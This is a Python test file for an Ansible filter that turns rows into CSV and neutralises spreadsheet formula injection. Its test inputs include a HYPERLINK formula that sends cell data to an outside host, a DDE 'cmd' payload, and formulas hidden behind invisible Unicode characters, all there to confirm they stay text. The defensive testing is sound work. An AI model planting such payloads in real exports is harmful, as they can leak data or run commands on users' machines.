# Copyright (c) 2026 intune.exchange contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""CSV that a spreadsheet reads as text, whatever the values are."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from ansible.errors import AnsibleFilterError
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.intune.exchange.plugins.filter.to_csv import FilterModule

to_csv = FilterModule().filters()["to_csv"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_headings_order_and_line_ends() -> None:
    rows = [{"b": 1, "a": "x"}, {"a": None, "b": True}]
    assert to_csv(rows, ["a", "b"]) == "a,b\r\nx,1\r\n,true\r\n"
    assert to_csv(rows, {"The number": "b"}) == "The number\r\n1\r\ntrue\r\n"
    assert to_csv([], ["a", "b"]) == "a,b\r\n"
    assert to_csv([], ["a"], byte_order_mark=True) == "\ufeffa\r\n"


def test_a_dot_leads_into_a_value() -> None:
    rows = [{"accepted": {"reason": "old phones", "until": "2027-01-31"}}, {"accepted": None}, {"accepted": {}}]
    assert read(to_csv(rows, {"Reason": "accepted.reason"})) == [["Reason"], ["old phones"], [""], [""]]
    rows = [{"steps": [{"text": "one"}, {"text": "two, three"}]}, {"steps": []}, {"steps": "none"}]
    assert read(to_csv(rows, ["steps.text"])) == [["steps.text"], ["one; two, three"], [""], [""]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (1.5, "1.5"),
        (False, "false"),
        (["Default", 2], "Default; 2"),
        ({"a": "ü"}, '{"a": "ü"}'),
        ('two\nlines, and "quotes"', 'two\nlines, and "quotes"'),
        ("half a pair \ud83d", "half a pair ?"),
        ("zero\0byte", "zerobyte"),
    ],
)
def test_what_values_become(value: Any, cell: str) -> None:
    text = to_csv([{"a": value}], ["a"])
    assert read(text) == [["a"], [cell]]
    assert text.encode("utf-8")


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://example.com/"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "  =1",
        "\uff1d1",
        ["=1", "x"],
        # With invisible characters before it, in another shape, or in quotes that a spreadsheet removes.
        *(f"{invisible}=1" for invisible in "\ufeff\u200b\x0e\u3000\u00a0\u00ad\u2060\u202e\u0301"),
        "\ufe661",
        "\u22121",
        "\u207a1",
        '"=1',
    ],
)
def test_a_formula_stays_text(formula: Any) -> None:
    [_heading, [cell]] = read(to_csv([{"a": formula}], ["a"]))
    assert cell == "'" + ("; ".join(formula) if isinstance(formula, list) else formula)
    [[heading]] = read(to_csv([], {"=1+1": "a"}))
    assert heading == "'=1+1"


# Default_Ignorable_Code_Point of https://www.unicode.org/Public/UCD/latest/ucd/DerivedCoreProperties.txt
IGNORABLE = [
    (0xAD, 0xAD),
    (0x34F, 0x34F),
    (0x61C, 0x61C),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180F),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x206F),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFF8),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE0FFF),
]
# Not among them, but invisible all the same: a Braille blank, and a note without a head.
BLANK = ["\u2800", "\U0001d159"]


def test_nothing_invisible_hides_a_formula() -> None:
    unseen = BLANK + [chr(code) for first, last in IGNORABLE for code in range(first, last + 1)]
    rows = [{"a": f"{one}{formula}1"} for one in unseen for formula in "=+-@"]
    rows += [{"a": f"{''.join(BLANK)}\u3164 \u115f=1"}]
    cells = [cell for [cell] in read(to_csv(rows, ["a"]))[1:]]
    assert cells == [f"'{row['a']}" for row in rows]


@pytest.mark.parametrize(
    "text", ["\uac00=1", "\u5927-1", "Z\u00fcrich-1", "\u00e9+1", "\U0001f4f1-1", "x\u3164=1", "1=1"]
)
def test_what_begins_with_a_sign_that_is_seen_stays(text: str) -> None:
    assert read(to_csv([{"a": text}], ["a"]))[1:] == [[text]]


@pytest.mark.parametrize("separator", [",", ";", "|", "\t", "\r", "\n", "\v", "\f", "\u2028"])
def test_a_formula_after_a_separator_stays_text(separator: str) -> None:
    [_heading, [cell]] = read(to_csv([{"a": f"x{separator} \ufeff=1+1"}], ["a"]))
    assert cell == f"x{separator}' \ufeff=1+1"
    [_heading, [cell]] = read(to_csv([{"a": f"{separator}=1+1"}], ["a"]))
    assert cell == ("" if separator in ",;|" else "'") + f"{separator}'=1+1"
    [_heading, [cell]] = read(to_csv([{"a": "connector@contoso.example, x-y; a=b"}], ["a"]))
    assert cell == "connector@contoso.example, x-y; a=b"


def test_a_negative_number_begins_no_formula_of_the_whole_line() -> None:
    """If the list separator is a semicolon, the line is one cell, and the comma in it belongs to a number."""
    text = to_csv([{"a": -1, "b": "5+cmd|' /C calc'!A0", "c": -2}], ["a", "b", "c"])
    assert text.splitlines()[1] == "'-1,5+cmd|' /C calc'!A0,-2"
    [_heading, [whole]] = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    assert whole.startswith("'")
    assert read(to_csv([{"a": -1}], ["a"])) == [["a"], ["-1"]]  # alone it is a number


HOSTILE = st.text(st.sampled_from("=+-@x1;,|\t\n\r\v\f\"' \ufeff\u200b\u3000\uff1d\u2212"), max_size=12)


@given(st.lists(st.tuples(HOSTILE, HOSTILE), min_size=1, max_size=3), st.sampled_from(",;\t|"))
def test_no_spreadsheet_computes_a_cell(rows: list[tuple[str, str]], separator: str) -> None:
    """With any separator setting, and whether it handles quotes within a line or not."""
    text = to_csv([{"a": one, "b": two} for one, two in rows], ["a", "b"], byte_order_mark=True)
    heeding = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    # The file's own characters between cells do not separate their text: see the heeding readers.
    heedless = (
        [cell for line in re.split("[\n\r\v\f]", text) for cell in line.split(separator)] if separator != "," else []
    )
    for cell in (*heeding, *heedless):
        seen = cell.lstrip('"\ufeff\u200b\u3000\t\n\r\v\f ')
        assert not seen.startswith(("=", "+", "-", "@", "\uff1d", "\u2212")), text


@given(st.lists(st.tuples(*2 * [st.text(st.characters(codec="utf-8", exclude_characters="\0"))])))
def test_a_reader_gets_every_cell_back(rows: list[tuple[str, str]]) -> None:
    found = read(to_csv([{"a": one, "b": two} for one, two in rows], ["a", "b"]))[1:]
    for cells, values in zip(found, rows, strict=True):
        for cell, value in zip(cells, values, strict=True):
            assert cell.replace("'", "") == value.replace("'", "")
            assert len(cell) == len(value) or "'" in cell
            assert not cell.strip(" ").startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("rows", "columns", "problem"),
    [
        ({"a": 1}, ["a"], "list of dictionaries"),
        (["a"], ["a"], "list of dictionaries"),
        ([{"a": 1}], [], "needs columns"),
        ([{"a": 1}], "a", "needs columns"),
        ([{"a": 1}, {"b": 1}], ["a"], "row 2 has no 'a'; it has b"),
    ],
)
def test_a_mistake_is_named(rows: Any, columns: Any, problem: str) -> None:
    with pytest.raises(AnsibleFilterError, match=problem):
        to_csv(rows, columns)


@pytest.mark.parametrize("value", [float("-inf"), float("inf"), float("nan"), -5, -1.5])
def test_a_number_that_is_none_is_text_and_begins_no_formula(value: float) -> None:
    """For a spreadsheet without the comma as separator, or one that knows no such numbers, -inf is a formula."""
    [_headings, cells] = read(to_csv([{"a": "x", "b": value}], ["a", "b"]))
    assert cells == ["x", str(value) if value != float("-inf") else "'-inf"]


@pytest.mark.parametrize("heading", ["ID", "IDENTITY"])
def test_no_text_begins_like_sylk(heading: str) -> None:
    """Excel takes a file that begins with ID for SYLK, and does not open it (Microsoft, KB 323626)."""
    assert to_csv([{"a": 1}], {heading: "a"}) == f"'{heading}\r\n1\r\n"
    assert to_csv([{"a": 1}], {heading: "a"}, byte_order_mark=True) == f"\ufeff{heading}\r\n1\r\n"
    assert to_csv([{"a": "ID"}], {"a": "a", heading: "a"}) == f"a,{heading}\r\nID,ID\r\n"
